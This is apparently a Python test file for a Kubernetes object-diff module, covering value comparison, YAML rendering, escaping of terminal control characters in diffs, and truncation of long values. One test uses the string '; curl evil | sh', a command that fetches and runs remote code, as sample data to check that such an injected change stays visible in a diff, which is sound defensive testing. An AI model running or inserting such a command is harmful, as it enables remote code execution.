"""Two objects are compared value by value, and shown as the lines in which they differ."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from l7gw.kube.object_diff import LONGEST_LINE, MOST_LINES, changes, encoded, lines_of, unified


def test_changes_are_the_values_that_differ() -> None:
    before = {"a": 1, "gone": {"x": 1}, "list": [1, {"n": 2}], "same": [1]}
    after = {"a": 2, "list": [1, {"n": 3}], "new": None, "same": [1]}
    assert changes(before, after) == [
        (("a",), [1], [2]), (("gone",), [{"x": 1}], []), (("list", 1, "n"), [2], [3]), (("new",), [], [None]),
    ]  # fmt: skip
    assert changes(before, before) == []


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"a": {"b": 1}}, {"a.b": 1}),
        ({"a": None}, {}),
        ({"a": True}, {"a": 1}),
        ({"a": [1, 2]}, {"a": [1, 2, 3]}),
        ({"a": "1"}, {"a": 1}),
        ({"a": ""}, {"a": "\0"}),
    ],
)
def test_other_changes_are_other_bytes(one: Any, other: Any) -> None:
    assert encoded(changes({}, one)) != encoded(changes({}, other))
    assert changes(one, other)


def test_the_same_changes_are_the_same_bytes_in_whatever_order_the_members_came() -> None:
    assert encoded(changes(None, {"a": 1, "b": {"c": 1, "d": 2}})) == encoded(changes(None, {"b": {"d": 2, "c": 1}, "a": 1}))


def test_an_object_is_written_as_yaml_has_it() -> None:
    found = lines_of({"spec": {"ports": [{"port": 80, "name": "web"}], "empty": {}, "on": True}, "data": {"a": "x\ny", "b": ""}})
    assert found == [
        "data:", "  a: |", "    x", "    y", '  b: ""', "spec:", "  empty: {}", "  on: true", "  ports:", "  - name: web", "    port: 80",
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["1", "-2.5e3", "true", "No", "null", "", "[]", "{a: b}", " a"])
def test_a_text_that_looks_like_something_else_stands_in_quotes(text: str) -> None:
    assert lines_of({"a": text}) == [f'a: "{text}"']


def test_a_diff_shows_what_goes_and_what_comes_with_three_lines_around() -> None:
    before = {f"k{number}": number for number in range(9)}
    assert unified(before, {**before, "k4": "new"}, 1000).split("\n") == [
        "@@", " k1: 1", " k2: 2", " k3: 3", "-k4: 4", "+k4: new", " k5: 5", " k6: 6", " k7: 7",
    ]  # fmt: skip
    assert unified(before, before, 1000) == ""
    assert unified(None, {"a": 1}, 1000) == "@@\n+a: 1"
    assert unified({"a": 1}, None, 1000) == "@@\n-a: 1"


def test_no_value_looks_like_another_line() -> None:
    shown = unified({}, {"a": "x\r\x1b[2K+b: 1\u202e", "b\nc": "d"}, 1000)
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert len(shown.split("\n")) == 3


def test_a_diff_is_cut_at_its_length() -> None:
    shown = unified({}, {f"k{number}": "x" * 90 for number in range(100)}, 2000)
    assert len(shown) <= 2000 and shown.endswith("too long to be shown")
    long = unified({}, {"a": "x" * 50_000}, 64000)
    assert "50000 characters" in long and len(long) < LONGEST_LINE + 100
    assert "too many" in unified({}, {str(number): 1 for number in range(MOST_LINES + 1)}, 64000)


@pytest.mark.parametrize("around", ["{}", "first line\n{}\nlast", " {}"])
def test_a_change_behind_the_beginning_of_a_long_value_is_shown(around: str) -> None:
    before, after = (around.format("x" * 600 + words + "y" * 600) for words in ("; echo done", "; curl evil | sh"))
    shown = unified({"args": [before], "same": "z" * 700}, {"args": [after], "same": "z" * 700}, 64000)
    (gone,), (come,) = ([line for line in shown.split("\n") if line[0] == sign] for sign in "-+")
    assert "…xxx" in gone and "x; echo done" in gone and "y… (" in gone and "echo" not in come
    assert "…xxx" in come and "x; curl evil | sh" in come and "y… (" in come and len(come) < 250


def test_of_long_values_that_differ_at_many_places_much_is_shown_and_how_long_they_are() -> None:
    before, after = ("a" * 100 + word + "b" * 1000 + word + "c" * 9000 + word for word in ("one", "two"))
    shown = unified({"k": before}, {"k": after}, 64000)
    assert shown.count("one") == 2 and shown.count("two") == 2 and shown.count("(10109 characters)") == 2
    assert shown.count("…") == 4 and 2 * 4000 < len(shown) < 2 * 4200


@given(
    st.lists(st.sampled_from(["x" * 500, "ab", "\n", "y"]), max_size=6),
    st.lists(st.sampled_from(["x" * 500, "ab", "\n", "y"]), max_size=6),
)
@example(["x" * 500, "\n"], ["\n", "x" * 500])
def test_whatever_differs_within_what_is_shown_of_a_change_the_diff_shows_it(one: list[str], other: list[str]) -> None:
    before, after = ({"k": "".join(parts), "n": 1} for parts in (one, other))
    assert (unified(before, after, 64000) == "") == (before == after)
    lines = unified(before, after, 64000).split("\n")
    old, new = ([line[1:] for line in lines if line[:1] in kept] for kept in (" -", " +"))  # an empty line may have moved alone
    assert before == after or old != new
